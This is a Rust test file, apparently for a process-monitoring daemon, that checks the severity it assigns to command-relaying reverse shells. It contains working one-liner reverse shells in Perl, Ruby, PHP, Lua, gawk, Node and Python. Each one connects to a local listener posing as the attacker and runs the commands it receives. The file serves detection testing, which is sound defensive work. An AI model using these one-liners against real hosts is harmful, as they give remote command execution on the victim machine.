//! One child for each command that comes in: only what it prints joins it to whoever holds the socket.

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::relayed::prove_popen;
use crate::common::victim::Victim;
use crate::require;

fn script(interpreter: &str, options: &[&str], text: &str, relay: &str) {
    let attacker = Listener::tcp();
    let text = text.replace("PORT", &attacker.port().to_string());
    let victim = Victim::start(interpreter, &[options, &[&text]].concat());
    let found = prove_popen(Daemon::shared(), attacker.accept(), victim, attacker.port(), relay);
    assert_eq!(found.severity(), "LOW", "{}", found.brief());
}

#[test]
fn perl_backticks() {
    require!("perl");
    Daemon::shared();
    let text =
        "use IO::Socket; $s=IO::Socket::INET->new('127.0.0.1:PORT') or die; while(<$s>){print $s `$_`}";
    script("perl", &["-e"], text, "perl");
}

#[test]
fn ruby_popen() {
    require!("ruby");
    Daemon::shared();
    let text = "require 'socket'; s=TCPSocket.new('127.0.0.1',PORT); \
        while l=s.gets; IO.popen(l.chomp,'r'){|io| s.print io.read}; end";
    script("ruby", &["-e"], text, "ruby");
}

#[test]
fn php_shell_exec() {
    require!("php");
    Daemon::shared();
    let text = "$s=stream_socket_client('tcp://127.0.0.1:PORT'); \
        while(($l=fgets($s))!==false){fwrite($s,shell_exec(trim($l)));}";
    script("php", &["-r"], text, "php");
}

#[test]
fn lua_popen() {
    require!("lua5.4");
    Daemon::shared();
    let text = "local s=require('socket').connect('127.0.0.1',PORT); \
        while true do local l=s:receive(); if not l then break end \
        local p=io.popen(l); s:send(p:read('a')); p:close() end";
    script("lua5.4", &["-e"], text, "lua5.4");
}

#[test]
fn gawk_inet() {
    require!("gawk");
    Daemon::shared();
    let text = "BEGIN{s=\"/inet/tcp/0/127.0.0.1/PORT\"; while((s|&getline c)>0){while((c|getline o)>0)print o|&s; close(c)}}";
    script("gawk", &[], text, "gawk");
}

#[test]
fn node_exec() {
    require!("node");
    Daemon::shared();
    let text = "const e=require('child_process').execSync;const s=require('net').connect(PORT,'127.0.0.1');\
        s.on('data',d=>s.write(e(d.toString().trim())));s.on('close',()=>process.exit())";
    let attacker = Listener::tcp();
    let victim = Victim::start("node", &["-e", &text.replace("PORT", &attacker.port().to_string())]);
    let found = prove_popen(Daemon::shared(), attacker.accept(), victim, attacker.port(), "node");
    // Its children's stdin is a channel of its own as well, which can be told as long as they live.
    assert!(["MEDIUM", "LOW"].contains(&found.severity()), "{}", found.brief());
}

#[test]
fn python_check_output() {
    require!("/usr/bin/python3");
    Daemon::shared();
    let text = "import socket,subprocess\n\
        s=socket.create_connection(('127.0.0.1',PORT)); f=s.makefile('r')\n\
        for l in f: s.sendall(subprocess.run(l,shell=True,capture_output=True).stdout)";
    script("/usr/bin/python3", &["-c"], text, "python3");
}
